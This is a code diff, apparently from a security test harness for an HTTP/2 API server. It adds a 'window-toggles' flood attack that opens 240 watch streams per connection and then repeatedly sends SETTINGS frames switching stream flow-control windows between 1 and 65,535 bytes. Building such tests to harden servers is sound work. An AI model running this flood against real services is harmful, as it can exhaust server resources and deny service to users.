@@ -13,6 +13,7 @@ use super::requests::{dry, object_path};
 use super::{Attack, Context, ELSEWHERE, Report};
 use crate::frames::{self, END_HEADERS, END_STREAM, frame};
 use crate::tls::{Identity, Protocol};
+use crate::{kinds, seed};
 
 /// Connections that flood at once.
 const LANES: usize = 4;
@@ -57,6 +58,11 @@ pub(super) const ATTACKS: &[Attack] = &[
         "floods/window-updates",
         "WINDOW_UPDATE of one byte without end",
         |context| async move { flood(&context, Identity::Nobody, window_updates).await }.boxed(),
+    ),
+    Attack::client(
+        "floods/window-toggles",
+        "240 watches per connection, and SETTINGS that open and close the windows of all streams",
+        |context| async move { flood(&context, Identity::Admin, window_toggles).await }.boxed(),
     ),
     Attack::client(
         "floods/anonymous",
@@ -207,6 +213,24 @@ fn pings(_: &str, _: u32) -> Vec<u8> {
 
 fn settings(_: &str, _: u32) -> Vec<u8> {
     frame(frames::SETTINGS, 0, 0, &[]).repeat(CHUNK as usize)
+}
+
+fn window_toggles(authority: &str, number: u32) -> Vec<u8> {
+    if number == 0 {
+        let path = format!("{}?watch=1", kinds::collection(seed::NAMESPACE, "blobs"));
+        let streams = (0..240).map(|stream| stream * 2 + 1);
+        return streams
+            .flat_map(|stream| frames::get(stream, authority, &path))
+            .collect();
+    }
+    let window = |bytes: u32| {
+        let mut setting = frames::INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
+        setting.extend_from_slice(&bytes.to_be_bytes());
+        frame(frames::SETTINGS, 0, 0, &setting)
+    };
+    [window(1), window(65_535)]
+        .concat()
+        .repeat(CHUNK as usize / 2)
 }
 
 fn window_updates(_: &str, _: u32) -> Vec<u8> {
